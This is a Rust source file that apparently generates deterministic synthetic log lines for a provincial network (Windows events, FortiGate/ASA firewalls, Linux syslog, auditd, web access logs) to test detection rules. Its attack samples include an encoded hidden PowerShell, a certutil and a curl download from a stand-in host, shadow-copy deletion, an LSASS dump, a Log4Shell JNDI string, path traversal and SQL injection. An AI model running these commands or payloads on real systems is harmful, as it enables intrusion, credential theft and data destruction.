//! A province's log lines: Windows (Winlogbeat-style JSON of NXLog), firewalls (FortiGate, Cisco ASA), Linux servers.
//!
//! Same seed, same lines. One line in a hundred is an attack that a shipped rule or a SigmaHQ rule knows.

use std::fmt::Write as _;

/// SplitMix64 (Steele, Lea, Flood: Fast Splittable Pseudorandom Number Generators, OOPSLA 2014).
#[derive(Clone, Debug)]
pub struct Rng(u64);

impl Rng {
    /// From a seed.
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    /// The next 64 bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number below `n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// One of a list.
    pub fn pick<'a, T: ?Sized>(&mut self, list: &[&'a T]) -> &'a T {
        list[self.below(list.len() as u64) as usize]
    }
}

/// What kind of device a line comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Windows event as JSON, about 800–1,100 bytes.
    Windows,
    /// FortiGate or Cisco ASA, about 150–450 bytes.
    Firewall,
    /// sshd, sudo, cron, nginx, systemd: about 90–250 bytes.
    Linux,
    /// auditd's record of a started program, about 600 bytes.
    Audit,
    /// A web server's access line, about 200 bytes.
    Web,
}

/// An endless stream of lines.
#[derive(Clone, Debug)]
pub struct Generator {
    rng: Rng,
    /// Seconds since 1970 of the next line; grows by one every `per_second` lines.
    clock: i64,
    made: u64,
    per_second: u64,
    /// One line in this many is an attack.
    attack_every: u64,
}

const USERS: &[&str] = &[
    "an.nv", "binh.tt", "chi.lt", "dung.pv", "giang.vt", "ha.nt", "hung.dq", "khanh.lm", "lan.pt", "minh.nd", "nga.tt", "quan.hv",
    "son.lv", "thao.nt", "tuan.na", "yen.dt",
];
const AGENCIES: &[&str] = &["ubnd", "sotc", "sogd", "soyt", "sotttt", "stnmt", "sxd", "sgtvt", "snn", "sct"];
/// Ordinary processes: image, its usual parent, and the arguments it is usually started with.
const PROCESSES: &[(&str, &str, &str)] = &[
    (r"C:\\Windows\\System32\\svchost.exe", r"C:\\Windows\\System32\\services.exe", "-k netsvcs -p -s Schedule"),
    (r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", EXPLORER, "--profile-directory=Default"),
    (EXPLORER, r"C:\\Windows\\System32\\userinit.exe", ""),
    (r"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", EXPLORER, r"/n D:\\VanBan\\to-trinh.docx"),
    (r"C:\\Windows\\System32\\backgroundTaskHost.exe", r"C:\\Windows\\System32\\svchost.exe", "-ServerName:App.AppX"),
    (r"C:\\Program Files (x86)\\UniKey\\UniKeyNT.exe", EXPLORER, ""),
    (r"C:\\Windows\\System32\\taskhostw.exe", r"C:\\Windows\\System32\\svchost.exe", "Install $(Arg0)"),
    (r"C:\\Program Files\\Kaspersky Lab\\avp.exe", r"C:\\Windows\\System32\\services.exe", "-r"),
];
const EXPLORER: &str = r"C:\\Windows\\explorer.exe";
/// Ordinary processes that speak to the network.
const CLIENTS: &[&str] = &[
    r"C:\\Windows\\System32\\svchost.exe",
    r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    r"C:\\Windows\\System32\\backgroundTaskHost.exe",
    r"C:\\Program Files\\Kaspersky Lab\\avp.exe",
];
const ATTACKS: &[(&str, &str)] = &[
    (
        r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    ),
    (r"C:\\Windows\\System32\\certutil.exe", r"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"),
    (r"C:\\Windows\\System32\\vssadmin.exe", r"vssadmin.exe delete shadows /all /quiet"),
    (r"C:\\Windows\\System32\\rundll32.exe", r"rundll32.exe C:\\windows\\system32\\comsvcs.dll MiniDump 624 C:\\temp\\l.dmp full"),
];
const URLS: &[&str] = &[
    "/",
    "/index.html",
    "/dichvucong/hoso",
    "/vanban/tim-kiem?q=quyet+dinh",
    "/static/app.js",
    "/tin-tuc/2026/11",
    "/api/v2/hoso/tra-cuu",
    "/images/logo.png",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15",
];

impl Generator {
    /// From a seed; `clock` is the first line's time (seconds since 1970), `per_second` lines share a second.
    pub fn new(seed: u64, clock: i64, per_second: u64) -> Self {
        Self { rng: Rng::new(seed), clock, made: 0, per_second: per_second.max(1), attack_every: 100 }
    }

    /// The mix of a province: 40 % Windows, 40 % firewall, 20 % Linux. Appends one line without its end.
    pub fn line(&mut self, out: &mut String) -> Kind {
        let kind = match self.rng.below(10) {
            0..4 => Kind::Windows,
            4..8 => Kind::Firewall,
            _ => Kind::Linux,
        };
        self.line_of(kind, out);
        kind
    }

    /// A line of one kind.
    pub fn line_of(&mut self, kind: Kind, out: &mut String) {
        self.made += 1;
        if self.made.is_multiple_of(self.per_second) {
            self.clock += 1;
        }
        let attack = self.rng.below(self.attack_every) == 0;
        // writing to a String cannot fail
        let _ = match kind {
            Kind::Windows => self.windows(attack, out),
            Kind::Firewall => self.firewall(attack, out),
            Kind::Linux => self.linux(attack, out),
            Kind::Audit => self.audit(attack, out),
            Kind::Web => self.web(attack, out),
        };
    }

    /// Sysmon's `UtcTime`, without the fraction.
    fn utc(&self) -> String {
        jiff::Timestamp::from_second(self.clock).unwrap_or(jiff::Timestamp::UNIX_EPOCH).strftime("%Y-%m-%d %H:%M:%S").to_string()
    }

    fn time(&self) -> jiff::Zoned {
        let t = jiff::Timestamp::from_second(self.clock).unwrap_or(jiff::Timestamp::UNIX_EPOCH);
        t.to_zoned(jiff::tz::TimeZone::fixed(jiff::tz::offset(7)))
    }

    fn host(&mut self) -> String {
        let agency = self.rng.pick(AGENCIES);
        format!("{agency}-pc{:04}", self.rng.below(400))
    }

    /// One of 4,000 people.
    fn user(&mut self) -> String {
        let name = self.rng.pick(USERS);
        format!("{name}{}", self.rng.below(250))
    }

    fn inside(&mut self) -> String {
        format!("10.{}.{}.{}", 16 + self.rng.below(21), self.rng.below(16), 1 + self.rng.below(250))
    }

    fn outside(&mut self) -> String {
        let net = self.rng.pick(&["203.0.113", "198.51.100", "192.0.2", "113.160.32", "14.225.7"]);
        format!("{net}.{}", 1 + self.rng.below(250))
    }

    fn windows(&mut self, attack: bool, out: &mut String) -> std::fmt::Result {
        let time = self.time().strftime("%Y-%m-%d %H:%M:%S").to_string();
        let utc = self.utc();
        let (host, user, record) = (self.host(), self.user(), self.made);
        let guid = self.rng.next_u64();
        let pid = 400 + self.rng.below(30_000);
        let head = |id: u32, channel: &str, provider: &str, category: &str| {
            format!(
                r#"{{"EventTime":"{time}","Hostname":"{host}.laichau.local","Keywords":-9223372036854775808,"EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":{id},"SourceName":"{provider}","ProviderGuid":"{{5770385F-C22A-43E0-BF4C-06F5698FFBD9}}","Version":5,"Task":1,"OpcodeValue":0,"RecordNumber":{record},"ProcessID":2412,"ThreadID":3748,"Channel":"{channel}","Category":"{category}""#
            )
        };
        match if attack { 0 } else { self.rng.below(10) } {
            0..4 => {
                let (image, parent, arguments) = PROCESSES[self.rng.below(PROCESSES.len() as u64) as usize];
                let (image, line) = if attack {
                    let (image, line) = ATTACKS[self.rng.below(ATTACKS.len() as u64) as usize];
                    (image, line.to_owned())
                } else {
                    (image, format!(r#"\"{image}\" {arguments}"#))
                };
                write!(
                    out,
                    r#"{},"RuleName":"-","UtcTime":"{utc}.{:03}","ProcessGuid":"{{{guid:016X}-0000}}","ProcessId":"{pid}","Image":"{image}","FileVersion":"10.0.19041.1","Description":"-","Product":"Microsoft Windows","Company":"Microsoft Corporation","OriginalFileName":"-","CommandLine":"{line}","CurrentDirectory":"C:\\Windows\\system32\\","User":"LAICHAU\\{user}","LogonGuid":"{{{guid:016X}-0001}}","LogonId":"0x{:x}","TerminalSessionId":"1","IntegrityLevel":"Medium","Hashes":"SHA256={guid:016X}{guid:016X}{guid:016X}{guid:016X}","ParentProcessId":"{}","ParentImage":"{parent}","ParentCommandLine":"{parent}","EventReceivedTime":"{time}","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}}"#,
                    head(1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", "Process Create (rule: ProcessCreate)"),
                    guid % 1000,
                    guid % 0xff_ffff,
                    400 + self.rng.below(30_000)
                )
            }
            4..6 => {
                let (source, destination) = (self.inside(), self.outside());
                write!(
                    out,
                    r#"{},"RuleName":"-","UtcTime":"{utc}.{:03}","ProcessGuid":"{{{guid:016X}-0000}}","ProcessId":"{pid}","Image":"{}","User":"LAICHAU\\{user}","Protocol":"tcp","Initiated":"true","SourceIsIpv6":"false","SourceIp":"{source}","SourceHostname":"{host}","SourcePort":"{}","DestinationIsIpv6":"false","DestinationIp":"{destination}","DestinationHostname":"-","DestinationPort":"443","EventReceivedTime":"{time}","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}}"#,
                    head(
                        3,
                        "Microsoft-Windows-Sysmon/Operational",
                        "Microsoft-Windows-Sysmon",
                        "Network connection detected (rule: NetworkConnect)"
                    ),
                    guid % 1000,
                    self.rng.pick(CLIENTS),
                    1024 + self.rng.below(60_000)
                )
            }
            6..9 => {
                let address = self.inside();
                write!(
                    out,
                    r#"{},"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-{}","TargetUserName":"{user}","TargetDomainName":"LAICHAU","TargetLogonId":"0x{:x}","LogonType":"3","LogonProcessName":"Kerberos","AuthenticationPackageName":"Kerberos","WorkstationName":"-","LogonGuid":"{{{guid:016X}-0001}}","IpAddress":"{address}","IpPort":"{}","ElevatedToken":"%%1843","EventReceivedTime":"{time}","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}}"#,
                    head(4624, "Security", "Microsoft-Windows-Security-Auditing", "Logon"),
                    1000 + guid % 5000,
                    guid % 0xfff_ffff,
                    1024 + self.rng.below(60_000)
                )
            }
            _ => {
                let service = self.rng.pick(&["Windows Update", "Background Intelligent Transfer Service", "Windows Time"]);
                write!(
                    out,
                    r#"{},"param1":"{service}","param2":"running","EventReceivedTime":"{time}","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}}"#,
                    head(7036, "System", "Service Control Manager", "(0)")
                )
            }
        }
    }

    fn firewall(&mut self, attack: bool, out: &mut String) -> std::fmt::Result {
        let time = self.time();
        let (source, destination) = (self.inside(), self.outside());
        let (sport, session) = (1024 + self.rng.below(60_000), self.rng.below(90_000_000));
        let (sent, received) = (60 + self.rng.below(90_000), 60 + self.rng.below(2_000_000));
        let port = self.rng.pick(&["443", "80", "53", "123", "8443", "993"]);
        let stamp = format!("date={} time={}", time.strftime("%Y-%m-%d"), time.strftime("%H:%M:%S"));
        let name = format!("FGT-{}", self.rng.pick(AGENCIES).to_uppercase());
        match if attack { 0 } else { 1 + self.rng.below(9) } {
            0 => write!(
                out,
                r#"<185>{stamp} devname="{name}" devid="FGT60FTK21000001" eventtime={}000000000 tz="+0700" logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" vd="root" severity="critical" srcip={destination} dstip={source} srcport={sport} dstport=443 policyid=12 sessionid={session} action="detected" proto=6 service="HTTPS" attack="Apache.Log4j.Error.Log.Remote.Code.Execution" attackid=51006 ref="http://www.fortinet.com/ids/VID51006" msg="applications3: Apache.Log4j.Error.Log.Remote.Code.Execution" crscore=50 crlevel="critical""#,
                self.clock
            ),
            1..6 => {
                let deny = self.rng.below(12) == 0;
                write!(
                    out,
                    r#"<189>{stamp} devname="{name}" devid="FGT60FTK21000001" eventtime={}000000000 tz="+0700" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip={source} srcport={sport} srcintf="internal" srcintfrole="lan" dstip={destination} dstport={port} dstintf="wan1" dstintfrole="wan" sessionid={session} proto=6 action="{}" policyid=7 service="HTTPS" duration={} sentbyte={sent} rcvdbyte={received} sentpkt=14 rcvdpkt=12 appcat="unscanned""#,
                    self.clock,
                    if deny { "deny" } else { "close" },
                    self.rng.below(600)
                )
            }
            6..8 => write!(
                out,
                "<166>{} fw-asa-01 : %ASA-6-302013: Built outbound TCP connection {session} for outside:{destination}/{port} ({destination}/{port}) to inside:{source}/{sport} (113.160.10.4/{sport})",
                time.strftime("%b %d %Y %H:%M:%S")
            ),
            8 => write!(
                out,
                "<166>{} fw-asa-01 : %ASA-6-302014: Teardown TCP connection {session} for outside:{destination}/{port} to inside:{source}/{sport} duration 0:01:{:02} bytes {received} TCP FINs",
                time.strftime("%b %d %Y %H:%M:%S"),
                session % 60
            ),
            _ => write!(
                out,
                r#"<164>{} fw-asa-01 : %ASA-4-106023: Deny tcp src outside:{destination}/{sport} dst inside:{source}/445 by access-group "outside_in" [0x0, 0x0]"#,
                time.strftime("%b %d %Y %H:%M:%S")
            ),
        }
    }

    /// The records of one execution, a line each, all with the same serial.
    fn audit(&mut self, attack: bool, out: &mut String) -> std::fmt::Result {
        let plain: &[&[&str]] = &[
            &["/usr/bin/ls", "-la", "/var/log"],
            &["/usr/bin/systemctl", "status", "nginx"],
            &["/usr/bin/python3", "/opt/backup/run.py", "--quiet"],
            &["/usr/bin/grep", "-c", "error", "/var/log/syslog"],
            &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
        ];
        let attacks: &[&[&str]] = &[
            &["/usr/bin/base64", "-d", "/tmp/x"],
            &["/usr/bin/curl", "-o", "/tmp/a.sh", "http://198.51.100.7/a.sh"],
            &["/usr/bin/chattr", "-i", "/etc/passwd"],
        ];
        let list = if attack { attacks } else { plain };
        let words = list[self.rng.below(list.len() as u64) as usize];
        let program = words[0];
        let name = program.rsplit('/').next().unwrap_or(program);
        let (ppid, pid, uid) = (300 + self.rng.below(30_000), 300 + self.rng.below(60_000), 1000 + self.rng.below(20));
        let stamp = format!("msg=audit({}.{:03}:{})", self.clock, self.made % 1000, self.made);
        write!(
            out,
            r#"type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d1c0 a1=55d1e0 a2=55d200 a3=8 items=2 ppid={ppid} pid={pid} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses=12 comm="{name}" exe="{program}" subj=unconfined key="exec""#
        )?;
        write!(out, "\ntype=EXECVE {stamp}: argc={}", words.len())?;
        for (i, word) in words.iter().enumerate() {
            write!(out, " a{i}=\"{word}\"")?;
        }
        write!(out, "\ntype=CWD {stamp}: cwd=\"/root\"\ntype=EOE {stamp}: ")
    }

    fn web(&mut self, attack: bool, out: &mut String) -> std::fmt::Result {
        let attacks = [
            "/?x=${jndi:ldap://198.51.100.7/a}",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/vanban/tim-kiem?q=1'+UNION+SELECT+password+FROM+users--",
            "/static/../../../../etc/passwd",
        ];
        let (address, time) = (self.outside(), self.time());
        let url = if attack { self.rng.pick(&attacks) } else { self.rng.pick(URLS) };
        let status = if self.rng.below(15) == 0 { 404 } else { 200 };
        write!(
            out,
            r#"{address} - - [{}] "GET {url} HTTP/1.1" {status} {} "-" "{}""#,
            time.strftime("%d/%b/%Y:%H:%M:%S %z"),
            200 + self.rng.below(60_000),
            self.rng.pick(AGENTS)
        )
    }

    fn linux(&mut self, attack: bool, out: &mut String) -> std::fmt::Result {
        let time = self.time();
        let stamp = time.strftime("%b %e %H:%M:%S").to_string();
        let host = format!("srv-{}-{:02}", self.rng.pick(AGENCIES), self.rng.below(12));
        let (user, address) = (self.user(), self.inside());
        let (pid, port) = (300 + self.rng.below(60_000), 1024 + self.rng.below(60_000));
        match if attack { 0 } else { 1 + self.rng.below(9) } {
            0 => write!(
                out,
                "<38>{stamp} {host} sshd[{pid}]: Failed password for invalid user admin from {} port {port} ssh2",
                self.outside()
            ),
            1..3 => write!(
                out,
                "<38>{stamp} {host} sshd[{pid}]: Accepted publickey for {user} from {address} port {port} ssh2: ED25519 SHA256:q{:016x}",
                self.rng.next_u64()
            ),
            3 => write!(out, "<86>{stamp} {host} sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1002) by (uid=0)"),
            4 => write!(
                out,
                "<85>{stamp} {host} sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"
            ),
            5 => write!(out, "<78>{stamp} {host} CRON[{pid}]: (root) CMD (/usr/local/bin/backup-check --quiet)"),
            6 => write!(out, "<30>{stamp} {host} systemd[1]: Started session-{}.scope - Session of User {user}.", self.rng.below(9000)),
            _ => {
                let status = if self.rng.below(15) == 0 { 404 } else { 200 };
                write!(
                    out,
                    r#"<134>{stamp} {host} nginx: {address} - - [{}] "GET {} HTTP/1.1" {status} {} "-" "{}""#,
                    time.strftime("%d/%b/%Y:%H:%M:%S %z"),
                    self.rng.pick(URLS),
                    200 + self.rng.below(60_000),
                    self.rng.pick(AGENTS)
                )
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{Generator, Kind};

    #[test]
    fn same_seed_same_lines() {
        let make = || {
            let mut g = Generator::new(7, 1_795_000_000, 1000);
            let mut text = String::new();
            for _ in 0..2000 {
                g.line(&mut text);
                text.push('\n');
            }
            text
        };
        assert_eq!(make(), make());
    }

    #[test]
    fn windows_lines_are_json() {
        let mut g = Generator::new(7, 1_795_000_000, 1000);
        for _ in 0..2000 {
            let mut line = String::new();
            g.line_of(Kind::Windows, &mut line);
            serde_json::from_str::<serde_json::Value>(&line).unwrap_or_else(|e| panic!("{e}: {line}"));
        }
    }
}
